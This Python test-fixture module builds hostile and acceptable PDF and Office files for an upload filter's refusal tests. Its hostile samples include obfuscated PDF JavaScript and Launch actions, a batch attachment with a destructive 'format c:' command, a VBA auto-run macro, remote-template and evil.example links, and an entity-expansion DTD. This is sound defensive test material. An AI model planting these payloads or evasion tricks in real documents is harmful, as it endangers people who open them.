# ruff: noqa: E501  (the corpora are tables: one file per line)
"""PDF and Office files made in code for the upload corpora: hostile ones and good ones.

Each ``*_CORPUS`` is a list of ``(case, bytes, typed name, reason)`` for files that must be
refused; each ``GOOD_*`` a list of ``(case, bytes, typed name, detected type name)`` for files
that must still be accepted. Hostile PDFs come both from pypdf's writer and as raw bytes
(names written with ``#xx`` escapes, objects packed in compressed object streams, objects no
table lists); Office files are ZIP packages built with ``zipfile``.
"""

from __future__ import annotations

import io
import warnings
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from intranet.demo.samples import pdf_bytes
from intranet.resources import refusals as why

# --- PDF ----------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A PDF of ``objects`` (numbered from 1, the first the catalog) with an xref table;
    ``tail`` goes after the last object and is listed nowhere."""
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += tail
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        xref,
    )
    return out


PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s>>"


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", *more: bytes, **kw) -> bytes:
    """Catalog, pages and one page (objects 1-3), then ``more`` objects from number 4."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog_extra
    return pdf(catalog, PAGES, PAGE % page_extra, *more, **kw)


def flate_stream(entries: bytes, data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"<< %s /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        entries,
        len(packed),
        packed,
    )


def pdf_with_object_stream(plain: list[bytes], packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file: objects ``plain`` (numbered from 1) written out, objects ``packed``
    (number → body) in a FlateDecode object stream, a compressed xref stream for all."""
    object_stream = len(plain) + len(packed) + 1
    xref_number = object_stream + 1
    header, body = b"", b""
    for number, text in packed.items():
        header += b"%d %d " % (number, len(body))
        body += text + b"\n"
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    offsets: dict[int, int] = {}
    written = [*enumerate(plain, start=1)]
    written.append(
        (
            object_stream,
            flate_stream(
                b"/Type /ObjStm /N %d /First %d" % (len(packed), len(header)), header + body
            ),
        )
    )
    for number, text in written:
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + text + b"\nendobj\n"
    offsets[xref_number] = len(out)
    rows = b"\x00\x00\x00\x00\x00\xff\xff"
    for number in range(1, xref_number + 1):
        if number in packed:
            index = list(packed).index(number)
            rows += b"\x02" + object_stream.to_bytes(4, "big") + index.to_bytes(2, "big")
        else:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1)
    out += b"%d 0 obj\n" % xref_number + flate_stream(entries, rows) + b"\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _text_page(writer: PdfWriter, text: str) -> None:
    """A page with Helvetica text, as an office program's export has."""
    page = writer.add_blank_page(595, 842)
    font = DictionaryObject({
        NameObject("/Type"): NameObject("/Font"),
        NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"),
    })  # fmt: skip
    resources = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})
    page[NameObject("/Resources")] = resources
    content = writer._add_object(
        _content_stream(b"BT /F1 18 Tf 72 760 Td (%s) Tj ET" % text.encode("latin-1"))
    )
    page[NameObject("/Contents")] = content


def _content_stream(data: bytes):
    from pypdf.generic import DecodedStreamObject

    stream = DecodedStreamObject()
    stream.set_data(data)
    return stream


def exported_pdf(salt: str = "", open_with_goto: bool = True) -> bytes:
    """What Word or LibreOffice export: pages with fonts, an outline, web and internal links,
    a mailto link, an /OpenAction that goes to the first page, document information."""
    writer = PdfWriter()
    _text_page(writer, f"Lesson plan {salt}")
    _text_page(writer, "Worksheet")
    writer.add_outline_item(title="Lesson plan", page_number=0)
    writer.add_outline_item(title="Worksheet", page_number=1)
    writer.add_annotation(0, Link(rect=(72, 700, 300, 720), url="https://bilimland.kz/"))
    writer.add_annotation(0, Link(rect=(72, 660, 300, 680), url="mailto:teacher@school.kz"))
    writer.add_annotation(0, Link(rect=(72, 620, 300, 640), target_page_index=1))
    first = writer.pages[0].indirect_reference
    if open_with_goto:
        writer.root_object[NameObject("/OpenAction")] = DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([first, NameObject("/Fit")]),
        })  # fmt: skip
    else:
        writer.root_object[NameObject("/OpenAction")] = ArrayObject(
            [first, NameObject("/XYZ"), NumberObject(0), NumberObject(842), NumberObject(0)]
        )
    writer.add_metadata({"/Title": f"Сабақ жоспары {salt}", "/Producer": "LibreOffice 7.6"})
    return _written(writer)


def tagged_pdf() -> bytes:
    """A tagged PDF (Word's accessible export): structure elements carry attributes under /A,
    which is not an action there; a Named action goes to the next page."""
    return one_page(
        b"/MarkInfo << /Marked true >> /StructTreeRoot 4 0 R",
        b"/Annots [6 0 R]",
        b"<< /Type /StructTreeRoot /K 5 0 R >>",
        b"<< /Type /StructElem /S /P /P 4 0 R /A << /O /Layout /Placement /Block >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /Named /N /NextPage >> >>",
    )


def _writer_js() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.alert('hello');"))
    return _written(writer)


def _writer_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("run.bat", b"@echo off\r\nformat c: /q\r\n")
    return _written(writer)


def _writer_encrypted() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", algorithm="RC4-128")
    return _written(writer)


EMBEDDED = (
    b"/Names << /Embedded#46iles << /Names [(a.exe) 4 0 R] >> >>",
    b"",
    b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>",
    flate_stream(b"/Type /Embedded#46ile", b"MZ\x90\x00"),
)
JS_IN_OBJECT_STREAM = pdf_with_object_stream(
    [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", PAGES, PAGE % b""],
    {4: b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"},
)
ORPHAN_JS = one_page(
    tail=b"9 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (x) >> >>"
    b"\nendobj\n"
)

PDF_CORPUS = [
    ("PDF: /J#61vaScript in /OpenAction", one_page(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: /S /L#61unch", one_page(b"/OpenAction << /S /L#61unch /F (cmd.exe) >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: /Embedded#46ile", one_page(*EMBEDDED), "p.pdf", why.ACTIVE_PDF),
    ("PDF: JavaScript in a FlateDecode object stream", JS_IN_OBJECT_STREAM, "p.pdf", why.ACTIVE_PDF),
    ("PDF: JavaScript from pypdf's writer", _writer_js(), "p.pdf", why.ACTIVE_PDF),
    ("PDF: attachment from pypdf's writer", _writer_attachment(), "p.pdf", why.ACTIVE_PDF),
    ("PDF: page /AA with escaped JavaScript", one_page(b"", b"/AA << /O << /S /#4Aava#53cript /#4AS 4 0 R >> >>", b"(app.alert(1))"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: /AA that opens a web page", one_page(b"/AA << /WC << /S /URI /URI (https://evil.example/) >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: /OpenAction that opens a web page", one_page(b"/OpenAction << /S /URI /URI (https://evil.example/) >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: GoTo /OpenAction with a Launch after it", one_page(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (calc.exe) >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: javascript: link", one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: file: link", one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI <66696c653a2f2f2f633a2f77696e646f7773> >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: GoToR to another file", one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /G#6FToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: SubmitForm", one_page(b"/AcroForm << /Fields [4 0 R] >>", b"", b"<< /FT /Btn /T (go) /A << /S /SubmitForm /F (https://evil.example/) >> >>"), "p.pdf", why.PDF_ACTIONS),
    ("PDF: XFA form", one_page(b"/AcroForm << /Fields [] /X#46A 4 0 R >>", b"", flate_stream(b"", b"<xdp:xdp/>")), "p.pdf", why.ACTIVE_PDF),
    ("PDF: file attachment annotation", one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS (a.exe) >>"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: rich media annotation", one_page(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: JavaScript name tree", one_page(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", b"<< /S /JavaScript /JS (app.alert(1)) >>"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: action type behind a reference", one_page(b"/OpenAction << /S 4 0 R /JS (x) >>", b"", b"/JavaScript"), "p.pdf", why.ACTIVE_PDF),
    ("PDF: script in an object no table lists", ORPHAN_JS, "p.pdf", why.ACTIVE_PDF),
    ("PDF: encrypted", _writer_encrypted(), "p.pdf", why.ENCRYPTED_PDF),
    ("PDF: header and EOF around junk", b"%PDF-1.7\n" + b"\x00junk" * 200 + b"\n%%EOF\n", "p.pdf", why.DAMAGED),
    ("PDF: no pages", pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"), "p.pdf", why.DAMAGED),
]  # fmt: skip

GOOD_PDFS = [
    ("PDF: minimal", pdf_bytes("good"), "жоспар.pdf", "pdf"),
    ("PDF: exported with GoTo /OpenAction", exported_pdf("a"), "сабақ.pdf", "pdf"),
    ("PDF: exported with destination /OpenAction", exported_pdf("b", open_with_goto=False), "plan.pdf", "pdf"),
    ("PDF: tagged, with a Named action", tagged_pdf(), "tagged.pdf", "pdf"),
    ("PDF: compressed object streams", pdf_with_object_stream([b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>", PAGES], {3: PAGE % b""}), "modern.pdf", "pdf"),
]  # fmt: skip


# --- Office ------------------------------------------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"
MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "pptx": ("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
}  # fmt: skip
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763"
    "f8cfc000000301010018dd8db00000000049454e44ae426082"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _rels(relationships: list[tuple[str, str, str]]) -> str:
    rows = "".join(
        f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}'
        "</Relationships>"
    )


def office(
    kind: str = "docx",
    *,
    main_type: str | None = None,
    parts: dict[str, bytes | str] | None = None,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    relationships: list[tuple[str, str, str]] | None = None,
    prolog: str = "",
) -> bytes:
    """An OOXML package of ``kind`` whose main part has ``relationships`` (type, target,
    "External" or ""); ``parts``, ``overrides`` and ``defaults`` add to it."""
    main, default_main_type = MAIN[kind]
    folder, part = main.split("/")
    types = {"rels": "application/vnd.openxmlformats-package.relationships+xml",
             "xml": "application/xml", "png": "image/png", **(defaults or {})}  # fmt: skip
    declared = {f"/{main}": main_type or default_main_type, **(overrides or {})}
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in types.items())
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in declared.items())
        + "</Types>"
    )
    entries: dict[str, bytes | str] = {
        "[Content_Types].xml": content_types,
        "_rels/.rels": _rels([(REL + "officeDocument", main, "")]),
        main: f'<?xml version="1.0"?><root kind="{kind}"><p>Сабақ</p></root>',
        f"{folder}/_rels/{part}.rels": _rels(relationships or []),
        "docProps/core.xml": '<?xml version="1.0"?><cp:coreProperties xmlns:cp="x"/>',
        **(parts or {}),
    }
    return zip_of(entries)


def zip_of(entries: dict[str, bytes | str], duplicate: tuple[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate on purpose
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for name, data in entries.items():
                archive.writestr(name, data)
            if duplicate:
                archive.writestr(*duplicate)
    return buffer.getvalue()


def odf(
    kind: str = "text", extra: dict[str, bytes | str] | None = None, content: str = ""
) -> bytes:
    ns = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    manifest = (
        '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
        f'manifest:media-type="{mimetype}"/></manifest:manifest>'
    )
    return zip_of({
        "mimetype": mimetype,
        "content.xml": f'<?xml version="1.0"?><office:document-content {ns}><office:body>'
        f"{content}</office:body></office:document-content>",
        "styles.xml": f'<?xml version="1.0"?><office:document-styles {ns}/>',
        "META-INF/manifest.xml": manifest,
        "Pictures/1.png": PNG_1PX,
        **(extra or {}),
    })  # fmt: skip


IMAGE_REL = (REL + "image", "media/image1.png", "")
GOOD_OFFICE = [
    ("DOCX: text, picture, web link", office(parts={"word/media/image1.png": PNG_1PX}, relationships=[IMAGE_REL, (REL + "hyperlink", "https://bilimland.kz/", "External")]), "plan.docx", "docx"),
    ("DOCX: chart with its embedded workbook", office(parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": office("xlsx")}, defaults={"xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}, relationships=[(REL + "package", "embeddings/Microsoft_Excel_Worksheet.xlsx", "")]), "chart.docx", "docx"),
    ("PPTX: slides and a picture", office("pptx", parts={"ppt/slides/slide1.xml": "<p:sld xmlns:p='x'/>", "ppt/media/image1.png": PNG_1PX}, relationships=[(REL + "slide", "slides/slide1.xml", ""), IMAGE_REL]), "slides.pptx", "pptx"),
    ("XLSX: a sheet", office("xlsx", parts={"xl/worksheets/sheet1.xml": "<worksheet/>"}, relationships=[(REL + "worksheet", "worksheets/sheet1.xml", "")]), "marks.xlsx", "xlsx"),
    ("ODT", odf("text", content="<office:text/>"), "essay.odt", "odt"),
    ("ODP", odf("presentation"), "talk.odp", "odp"),
    ("ODS", odf("spreadsheet"), "table.ods", "ods"),
]  # fmt: skip

VBA = OLE + b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\nShell "calc"\r\nEnd Sub'
EVENT = ('<office:event-listeners xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
         'xmlns:xlink="http://www.w3.org/1999/xlink"><script:event-listener script:language="ooo:script" '
         'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
         "</office:event-listeners>")  # fmt: skip
XXE = '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

OFFICE_CORPUS = [
    ("DOCM: macro-enabled main part and vbaProject.bin", office(main_type=DOCM_MAIN, parts={"word/vbaProject.bin": VBA}, defaults={"bin": "application/vnd.ms-office.vbaProject"}, relationships=[(MS_REL + "vbaProject", "vbaProject.bin", "")]), "macro.docm", why.MACROS),
    ("DOCX: VBA project stored as word/vbaData.bin", office(main_type=DOCM_MAIN, parts={"word/vbaData.bin": VBA}, overrides={"/word/vbaData.bin": "application/vnd.ms-office.vbaProject"}), "macro2.docm", why.MACROS),
    ("DOCX: VBA under a picture's name, declared by relationship", office(parts={"word/media/image9.png": VBA}, relationships=[(MS_REL + "vbaProject", "media/image9.png", "")]), "plan.docx", why.MACROS),
    ("DOCX: macro content type on an innocent name", office(parts={"word/theme/extra.xml": "<x/>"}, overrides={"/word/theme/extra.xml": "application/vnd.ms-word.vbaData+xml"}), "plan.docx", why.MACROS),
    ("DOCX: OLE file under an innocent name", office(parts={"word/theme/theme2.dat": VBA}), "plan.docx", why.EMBEDDED_OBJECTS),
    ("DOCX: ActiveX control", office(parts={"word/activeX/activeX1.xml": "<ax/>"}, overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"}, relationships=[(REL + "control", "activeX/activeX1.xml", "")]), "plan.docx", why.EMBEDDED_OBJECTS),
    ("DOCX: OLE object", office(parts={"word/embeddings/oleObject1.bin": b"\x01\x02"}, relationships=[(REL + "oleObject", "embeddings/oleObject1.bin", "")]), "plan.docx", why.EMBEDDED_OBJECTS),
    ("DOCX: remote template", office(parts={"word/settings.xml": "<w:settings xmlns:w='x'/>", "word/_rels/settings.xml.rels": _rels([(REL + "attachedTemplate", "https://evil.example/t.dotm", "External")])}), "plan.docx", why.EXTERNAL_CONTENT),
    ("DOCX: picture loaded from the web", office(relationships=[(REL + "image", "https://evil.example/pixel.png", "External")]), "plan.docx", why.EXTERNAL_CONTENT),
    ("DOCX: linked OLE object on a share", office(relationships=[(REL + "oleObject", "file://host/share/x.xls", "External")]), "plan.docx", why.EMBEDDED_OBJECTS),
    ("DOCX: subdocument on a share", office(relationships=[(REL + "subDocument", "\\\\host\\share\\x.docx", "External")]), "plan.docx", why.EXTERNAL_CONTENT),
    ("DOCX: embedded macro workbook", office(parts={"word/embeddings/Book.xlsx": office("xlsx", main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")}, relationships=[(REL + "package", "embeddings/Book.xlsx", "")]), "plan.docx", why.MACROS),
    ("DOCX: DTD with entities in [Content_Types].xml", office(prolog=XXE), "plan.docx", why.DAMAGED),
    ("DOCX: two [Content_Types].xml entries", zip_of({"[Content_Types].xml": "<Types/>"}, duplicate=("[Content_Types].xml", "<Types/>")), "plan.docx", why.DAMAGED),
    ("DOCX: main part missing", zip_of({"[Content_Types].xml": "<Types/>", "_rels/.rels": _rels([(REL + "officeDocument", "word/document.xml", "")])}), "plan.docx", why.DAMAGED),
    ("PPTM: macro-enabled presentation", office("pptx", main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"), "talk.pptx", why.MACROS),
    ("XLSX: Excel 4.0 macro sheet", office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<xm:macrosheet xmlns:xm='x'/>"}, overrides={"/xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"}, relationships=[(MS_REL + "xlMacrosheet", "macrosheets/sheet1.xml", "")]), "marks.xlsx", why.MACROS),
    ("XLSX: external workbook link", office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}, relationships=[(REL + "externalLink", "externalLinks/externalLink1.xml", "")]), "marks.xlsx", why.EXTERNAL_CONTENT),
    ("ODT: Basic macros", odf("text", {"Basic/Standard/Module1.xml": "<script:module/>"}), "essay.odt", why.MACROS),
    ("ODT: Python script", odf("text", {"Scripts/python/run.py": "import os; os.system('calc')"}), "essay.odt", why.MACROS),
    ("ODT: event listener running a macro", odf("text", content=EVENT), "essay.odt", why.MACROS),
    ("ODT: encrypted", odf("text", {"META-INF/manifest.xml": '<?xml version="1.0"?><m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'}), "essay.odt", why.MACROS),
    ("ODS: embedded OLE object", odf("spreadsheet", {"Object 1": VBA}), "table.ods", why.EMBEDDED_OBJECTS),
]  # fmt: skip
